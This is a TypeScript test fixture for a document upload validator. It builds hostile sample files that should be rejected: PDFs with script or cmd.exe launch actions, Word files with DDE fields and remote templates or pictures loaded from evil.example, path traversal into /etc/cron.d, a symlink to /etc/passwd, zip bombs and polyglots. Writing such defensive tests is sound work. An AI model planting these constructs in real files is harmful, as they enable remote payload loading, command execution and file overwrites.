import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { deflateSync } from "node:zlib";
import type { UploadError } from "#server/uploads/upload-error.ts";
import {
  DOCX_PARTS,
  pngChunk,
  sampleDoc,
  sampleDocx,
  sampleJpg,
  samplePdf,
  samplePng,
  sampleZip,
  type ZipPart,
} from "./sample-files.ts";

/*
 * PDFs that qpdf 11.3 encrypted (`qpdf --object-streams=generate --encrypt USER OWNER BITS …`). Everything but the catalog is
 * in an encrypted object stream; those in `scripts` have an action with JavaScript there.
 */

const PDFS = join(import.meta.dirname, "../pdfs");
const pdfsIn = (folder: string): Readonly<Record<string, Buffer>> =>
  Object.fromEntries(
    readdirSync(join(PDFS, folder)).map((file) => [file.replace(".pdf", ""), readFileSync(join(PDFS, folder, file))]),
  );

/** PDFs that open without a password, but whose owner restricted printing or changes. */
export const RESTRICTED = pdfsIn("restricted");
/** The same with a hidden script. */
const RESTRICTED_SCRIPTS = pdfsIn("scripts");
/** A PDF with the password `secret`. */
const WITH_PASSWORD = readFileSync(join(PDFS, "password.pdf"));

const WORD = { name: "WordDocument", type: 2 } as const;
const MEGABYTE = 1024 * 1024;
const big = Buffer.alloc(60 * MEGABYTE);
const part20MB: ZipPart = { name: "word/media/a", data: big.subarray(0, 20 * MEGABYTE) };

const WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const contentTypes = (...types: string[]) =>
  `<Types>${types.map((type) => `<Override PartName="/word/document.xml" ContentType="${type}"/>`).join("")}</Types>`;

/** A Word document with these content types, document and other parts. */
const wordWith = (types: string | Buffer, document = "<w:document/>", more: readonly ZipPart[] = []) =>
  sampleZip([{ name: "[Content_Types].xml", data: types }, { name: "word/document.xml", data: document }, ...more]);
export const withDocument = (document: string) => wordWith(contentTypes(WORD_MAIN), document);
const withFields = (fields: string) => withDocument(`<w:document>${fields}</w:document>`);
const partsOf = (count: number, data: string | Buffer): ZipPart[] =>
  Array.from({ length: count }, (_, index) => ({ name: `${index}`, data }));
const withPart = (name: string, data: string | Buffer) => sampleDocx([{ name, data }]);
const RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
export const withRelationship = (type: string, target: string, mode = "External") =>
  withPart(
    "word/_rels/settings.xml.rels",
    `<Relationships><Relationship Id="a" Type="${RELATIONSHIPS}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
  );

const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
export const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
export const field = (...codes: string[]) =>
  `<w:p>${mark("begin")}${codes.join("")}${mark("separate")}${mark("end")}</w:p>`;

/** Field codes that load a file or data, from another server if its address says so. */
const LOADING_FIELDS = [
  'INCLUDEPICTURE "https://evil.example/a.png" \\d',
  'includetext "https://evil.example/a.docx"',
  'INCLUDE "c:\\a.doc"',
  'IMPORT "https://evil.example/a.png"',
  'RD "https://evil.example/a.docx"',
  'LINK Excel.Sheet.8 "c:\\a.xls"',
  'DATABASE \\d "c:\\a.mdb"',
  'HYPERLINK "\\\\evil.example\\a"',
  'HYPERLINK \\o "A tip" "FILE:///\\\\evil.example/a"',
  "HYPERLINK //evil.example/a",
] as const;

const utf16 = (xml: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]);
const bytesOf = (text: string) => Buffer.from(text, "latin1");
/** A PDF with one more object. */
export const pdfWith = (object: string | Buffer, more = "") =>
  Buffer.concat([
    bytesOf("%PDF-1.7\n1 0 obj\n<</Type/Catalog>>\nendobj\n9 0 obj\n"),
    Buffer.from(object),
    bytesOf(`\nendobj\n${more}trailer\n<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n`),
  ]);
/** An object stream with one object. */
export const objectStream = (
  object: string,
  dictionary = "/Filter/FlateDecode",
  pack: (bytes: Buffer) => Buffer = (bytes) => deflateSync(bytes),
) => {
  const head = "7 0 ";
  const packed = pack(Buffer.from(head + object));
  return Buffer.concat([
    bytesOf(`<</Type/ObjStm/N 1/First ${head.length}/Length ${packed.length}${dictionary}>>\nstream\n`),
    packed,
    bytesOf("\nendstream"),
  ]);
};
const asIs = (bytes: Buffer) => bytes;
export const changed = (file: Buffer | undefined, before: string | RegExp, after: string) =>
  bytesOf((file as Buffer).toString("latin1").replace(before, after));
/** A PDF inside the comment of a ZIP that starts in the PDF: valid as both. */
const pdfAndZip = () => {
  const pdf = samplePdf();
  const archive = sampleZip([{ name: "a.exe", data: "MZ" }]);
  archive.writeUInt16LE(60, archive.length - 2);
  return Buffer.concat([pdf.subarray(0, 15), archive, pdf.subarray(15)]);
};
/** A compound file with a PDF header in an unused sector. */
const withPdfHead = (doc: Buffer) => {
  const copy = Buffer.from(doc);
  copy.write("%PDF-1.4", 900, "latin1");
  return copy;
};
const withComment = (jpg: Buffer, comment: Buffer) => {
  const head = Buffer.from([0xff, 0xfe, 0, 0]);
  head.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpg.subarray(0, 2), head, comment, jpg.subarray(2)]);
};
/** An archive whose comment is the rest of the picture. */
const pngWithChunk = () => {
  const png = samplePng();
  return Buffer.concat([png.subarray(0, 33), pngChunk("zIPf", archive), png.subarray(33)]);
};
const compound = Buffer.from("d0cf11e0a1b11ae1", "hex");
const archive = sampleZip([{ name: "a", data: "x" }]);
const MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml";

/** Files that must be rejected, by the expected error. */
const BY_ERROR = {
  empty: [["nothing", Buffer.alloc(0)]],
  otherType: [
    ["text", Buffer.from("Dear team, I weave.")],
    ["a page", Buffer.from("<!doctype html><script>alert(1)</script>")],
    ["a program", Buffer.from("MZ\u0090\u0000\u0003 This program cannot be run")],
    ["a GIF", Buffer.from("GIF89a\u0001\u0000\u0001\u0000")],
    ["a program with a PDF inside", Buffer.concat([Buffer.from("MZ this program "), samplePdf()])],
    ["a GIF with a PDF inside", Buffer.concat([Buffer.from("GIF89a\u0001\u0000\u0001\u0000"), samplePdf()])],
    ["a PDF behind more text than readers skip", Buffer.concat([Buffer.alloc(1_024, "\n"), samplePdf()])],
    ["a compound file that is a spreadsheet", sampleDoc([{ name: "Workbook", type: 2 }])],
    ["a compound file whose WordDocument is a folder", sampleDoc([{ name: "WordDocument", type: 1 }])],
    ["any ZIP", sampleZip([{ name: "a.txt", data: "x" }])],
    ["a spreadsheet", sampleZip([DOCX_PARTS[0] as never, { name: "xl/workbook.xml", data: "x" }])],
    ["a ZIP without content types", sampleZip([DOCX_PARTS[1] as never])],
    ["a DOCX whose types name another document", wordWith("<Types/>")],
    [
      "a macro document whose other type is in a comment",
      wordWith(`<Types><!-- ${WORD_MAIN} --><Override PartName="/word/document.xml" ContentType="x"/></Types>`),
    ],
  ],
  damaged: [
    ["a PDF's first line before a page", Buffer.from("%PDF-1.4\n<html><script>alert(1)</script></html>")],
    ["a PDF with a program behind it", Buffer.concat([samplePdf(), Buffer.alloc(2000, "MZ")])],
    ["a PDF of no version", changed(samplePdf(), "%PDF-1.4", "%PDF-x.y")],
    ["a PDF whose trailer points nowhere", changed(samplePdf(), /startxref\n\d+/, "startxref\n99999999")],
    ["a PDF without objects", Buffer.from("%PDF-1.4\nstartxref\n3\n%%EOF\n")],
    ["a PDF with an object stream packed twice", pdfWith(objectStream("x", "/Filter[/ASCIIHexDecode/FlateDecode]"))],
    ["a PDF with an object stream with a predictor", pdfWith(objectStream("x", "/Filter/FlateDecode/DecodeParms<<>>"))],
    ["a JPEG without a picture", Buffer.from([0xff, 0xd8, 0xff, 0xd9])],
    ["a compound file that runs in circles", sampleDoc([WORD], { loop: true })],
    ["a DOCX with a DTD", withDocument('<!DOCTYPE a [<!ENTITY b "c">]><w:document/>')],
    ["a DOCX in an encoding of its own", withDocument('<?xml version="1.0" encoding="utf-7"?><w:document/>')],
    ["a DOCX whose XML does not end", withDocument("<w:document>")],
    ["a DOCX that unpacks to more than it says", sampleDocx([{ ...part20MB, fake: { size: 10 } }])],
    ["a DOCX that unpacks to less than it says", sampleDocx([{ name: "a", data: "short", fake: { size: 10 } }])],
    ["a DOCX that climbs out of its folder", withPart("../../etc/cron.d/x", "x")],
    ["a DOCX with a backslash", withPart("..\\x", "x")],
    ["a DOCX with a link", sampleDocx([{ name: "a", data: "/etc/passwd", mode: 0o120777 }])],
    ["a DOCX with a part twice", sampleDocx([{ name: "WORD/document.xml", data: "x" }])],
    ["a DOCX with two names for a part", sampleDocx([{ name: "a", data: "x", fake: { localName: "b" } }])],
    ["a DOCX with overlapping parts", sampleDocx([{ name: "a", data: "x", fake: { offset: 0, localName: "a" } }])],
    ["a DOCX with a part beyond its end", sampleDocx([{ name: "a", data: "x", fake: { packedSize: 99_999 } }])],
    ["a DOCX with data before it", sampleDocx([], { before: "PK\u0003\u0004 hidden" })],
    ["a DOCX with data behind it", sampleDocx([], { after: "hidden" })],
  ],
  scripts: [
    ["a PDF with a script", pdfWith("<</S/JavaScript/JS(app.alert\\(1\\))>>")],
    ["a PDF with a script under an escaped name", pdfWith("<</S/J#61v#61Scrip#74/J#53(x)>>")],
    ["a PDF with a script that runs when it opens", pdfWith("<</OpenAction<</S/JavaScript/JS(x)>>>>")],
    ["a PDF with a script behind a comment", pdfWith("%(\n<</S%)\n/JavaScript>>")],
    ["a PDF whose script begins inside a text", pdfWith("(8 0 obj<</S/JavaScript/JS(x)>>)")],
    ["a PDF whose script is in a stream", pdfWith("<<>>stream\n8 0 obj<</S/JavaScript>>endobj\nendstream")],
    ["a PDF that starts a program", pdfWith("<</S/Launch/Win<</F(cmd.exe)>>>>")],
    ["a PDF with an XFA form", pdfWith("<</AcroForm<</XFA 8 0 R>>>>")],
    ["a PDF with a script in an object stream", pdfWith(objectStream("<</S/JavaScript/JS(x)>>"))],
    ["a PDF with an escaped script in an object stream", pdfWith(objectStream("<</S/#4aavaScript/JS(x)>>"))],
    ["a PDF with a script in a plain object stream", pdfWith(objectStream("<</S/Launch>>", "", asIs))],
    ["a PDF with a script behind a false end", pdfWith(objectStream("<</T(endstream)/AA<</S/Launch>>>>", "", asIs))],
    ...Object.entries(RESTRICTED_SCRIPTS).map(([kind, file]) => [`a PDF with a script behind ${kind}`, file] as const),
    ["a PDF with a hidden stream", pdfWith(changed(objectStream("<</S/Launch>>"), "/Type/ObjStm", "/Type/XObject"))],
  ],
  bomb: [
    ["a PDF with an object stream that bursts", pdfWith(objectStream(`(${" ".repeat(60 * MEGABYTE)})`))],
    ["a PNG that paints a continent", samplePng({ width: 60_000, height: 60_000 })],
    ["a JPEG that paints a continent", sampleJpg({ width: 65_000, height: 65_000 })],
    ["a DOCX that unpacks to 300 MB", sampleDocx(partsOf(5, big))],
    ["a DOCX that shrinks a thousandfold", sampleDocx([part20MB])],
    ["a DOCX with a size of ZIP64", sampleDocx([{ name: "a", data: "x", fake: { size: 0xffffffff } }])],
  ],
  embedded: [
    ["a PDF with a file in it", pdfWith("<</Names<</EmbeddedFiles 8 0 R>>>>")],
    ["a PDF with a file in a note", pdfWith("<</Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 8 0 R>>>>>>")],
    ["a DOC with a file in it", sampleDoc([WORD, { name: "\u0001Ole10Native", type: 2 }])],
    ["a DOC with an object in it", sampleDoc([WORD, { name: "_1234567890", type: 1 }])],
    ["a DOCX with a compound file under a harmless name", withPart("word/media/a.png", compound)],
    ["a DOCX with an embedded object", withRelationship("oleObject", "embeddings/a.bin", "Internal")],
    ["a DOCX with an ActiveX control", withRelationship("control", "activeX/a.xml", "Internal")],
    ["a DOCX with a page of HTML in it", withRelationship("aFChunk", "a.mht", "Internal")],
  ],
  remote: [
    ["a PDF that opens another", pdfWith("<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>")],
    ["a DOC with a DDE field", Buffer.concat([sampleDoc(), Buffer.from("\u0013 DdeAuto c:\\x", "utf16le")])],
    [
      "a DOC that loads a picture",
      Buffer.concat([sampleDoc(), bytesOf('\u0013INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')]),
    ],
    ["a DOCX with a template from the web", withRelationship("attachedTemplate", "https://evil.example/a.dotm")],
    ["a DOCX with a template from a share", withRelationship("attachedTemplate", "file://evil.example/a.dotm")],
    ["a DOCX with a hidden template", withRelationship("attachedTemplate", "ht&#10;tp&#58;//evil.example/a")],
    ["a DOCX with a picture from a share", withRelationship("image", "file://evil.example/a.png")],
    ["a DOCX with a frame from the web", withRelationship("frame", "http://evil.example/a")],
    ["a DOCX with a link to a share", withRelationship("hyperlink", "file://evil.example/a")],
    [
      "a DOCX with a link whose address is far behind its name",
      withFields(field(code("HYPERLINK"), code(" ".repeat(5_000)), code('"file://evil.example/a"'))),
    ],
    ["a DOCX with a simple DDE field", withFields('<w:fldSimple w:instr=" dde excel"/>')],
    ["a DOCX with DDE in pieces", withFields(field(code(" D"), code("<!-- -->DE"), code("<![CDATA[AU]]>TO c:")))],
    ["a DOCX with a DDE field under another prefix", withFields(field(code("DDE x")).replaceAll("w:", "x:"))],
    ["a DOCX with a field whose name is computed", withFields(field(field(code("QUOTE 68 68 69")), code(" c:")))],
    ["a DOCX with DDE in a header of UTF-16", withPart("word/a.dat", utf16(`<w:hdr>${field(code("DDE x"))}</w:hdr>`))],
    ...LOADING_FIELDS.filter((each) => !each.startsWith("INCLUDEPICTURE")).flatMap(
      (each) =>
        [
          [`a DOC with the field ${each}`, Buffer.concat([sampleDoc(), bytesOf(`\u0013 ${each} \u0014`)])],
          [`a DOC with ${each} in UTF-16`, Buffer.concat([sampleDoc(), Buffer.from(`\u0013${each}\u0014`, "utf16le")])],
        ] as const,
    ),
    ...LOADING_FIELDS.map((each) => [`a DOCX with the field ${each}`, withFields(field(code(` ${each} `)))] as const),
  ],
  locked: [
    ["a PDF with a password", WITH_PASSWORD],
    ["a PDF with another kind of lock", pdfWith("<<>>", "trailer<</Encrypt 8 0 R>>\n")],
    [
      "a PDF with a second lock",
      Buffer.concat([
        (RESTRICTED["aes-256"] as Buffer).subarray(0, 15),
        WITH_PASSWORD.subarray(15),
        RESTRICTED["aes-256"] as Buffer,
      ]),
    ],
    ["a PDF with a filter twice", changed(RESTRICTED_SCRIPTS["aes-128"], "/CF << ", "/CF << /StdCF << /CFM /V2 >> ")],
    ["a PDF whose key does not fit its method", changed(RESTRICTED_SCRIPTS["aes-128"], "/AESV2", "/AESV3")],
    ["a PDF with its method elsewhere", changed(RESTRICTED_SCRIPTS["rc4-unpacked"], "/V 2", "/V 4/StmF/A/CF 8 0 R")],
    ...["/CF 8 0 R/X<</A<</CFM/None>>>>", "/CF<</A 8 0 R>>/X<</A<</CFM/None>>>>"].map((filters) => {
      const decoy = changed(RESTRICTED_SCRIPTS["rc4-unpacked"], "/V 2", `/V 4/StmF/A${filters}`);
      /* As an encrypted stream with AES may begin. */
      const file = changed(decoy, /(?<=First 15 >>\nstream\n).{15}/s, "1 0".padEnd(15));
      return [`a PDF with a decoy for the method of its lock: ${filters}`, file] as const;
    }),
    ["a DOC with a password", sampleDoc([WORD], { encrypted: true })],
    ["a DOCX with a password", sampleDoc([{ name: "EncryptedPackage", type: 2 }])],
    ["a DOCX with an encrypted part", sampleDocx([{ name: "a", data: "x", flags: 1 }])],
  ],
  ambiguous: [
    ["a page with a PDF inside", Buffer.concat([Buffer.from("<html>"), samplePdf()])],
    ["a PDF that is an archive too", pdfAndZip()],
    ["a PDF with an archive behind it", Buffer.concat([samplePdf(), archive])],
    ["a PDF that is a page too", changed(samplePdf(), "\n", "\n%<html><script>x</script>\n")],
    ["a PDF with a page behind it", Buffer.concat([samplePdf(), bytesOf("<script>x</script>")])],
    ["a JPEG with an archive behind some bytes", Buffer.concat([sampleJpg(), bytesOf("more"), archive])],
    ["a JPEG with a page behind it", Buffer.concat([sampleJpg(), bytesOf("\n <!DOCTYPE html><p>x")])],
    ["a JPEG with a program behind it", Buffer.concat([sampleJpg(), bytesOf("MZ\u0090\0")])],
    ["a JPEG with a PDF in its comment", withComment(sampleJpg(), samplePdf())],
    ["a PNG with a ZIP behind it", Buffer.concat([samplePng(), sampleDocx()])],
    ["a PNG with a page behind it", Buffer.concat([samplePng(), bytesOf("\n<html>")])],
    ["a PNG with a ZIP in a chunk", pngWithChunk()],
    ["a DOC that is an archive too", Buffer.concat([sampleDoc(), archive])],
    ["a DOC that is a PDF too", withPdfHead(sampleDoc())],
    ["a DOCX that is a PDF too", sampleZip([{ name: "a", data: samplePdf(), stored: true }, ...DOCX_PARTS])],
  ],
  macros: [
    ["a DOC with macros", sampleDoc([WORD, { name: "Macros", type: 1 }])],
    ["a DOC with the macros of a book", sampleDoc([WORD, { name: "_vba_project_cur", type: 1 }])],
    ["a DOC with a macro project", sampleDoc([WORD, { name: "_Vba_Project", type: 2 }])],
    ["a DOCX with macros", sampleDocx([{ name: "word/vbaProject.bin", data: "x" }])],
    ["a macro document by its types", wordWith(contentTypes(MACRO_TYPE))],
    ["a macro type with entities", wordWith(contentTypes(MACRO_TYPE.replace("macroE", "&#109;acro&#x45;"), WORD_MAIN))],
    ["a macro document by its types in UTF-16", wordWith(utf16(contentTypes(MACRO_TYPE)))],
    [
      "a macro project under another name",
      wordWith(
        `<Types><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`,
        undefined,
        [{ name: "word/a.dat", data: "x" }],
      ),
    ],
    [
      "a macro project by its relationship",
      withPart(
        "word/_rels/document.xml.rels",
        '<Relationships><Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/&#118;baProject" Target="a.dat"/></Relationships>',
      ),
    ],
  ],
  tooComplex: [["a DOCX of 5,000 parts", sampleDocx(partsOf(5_000, "x"))]],
} satisfies Partial<Record<UploadError, (readonly [name: string, bytes: Buffer])[]>>;

/** Files that must be rejected, with the expected error. */
export const HOSTILE_FILES = Object.entries(BY_ERROR).flatMap(([error, files]) =>
  files.map(([name, bytes]) => [name, bytes, error as UploadError] as const),
);
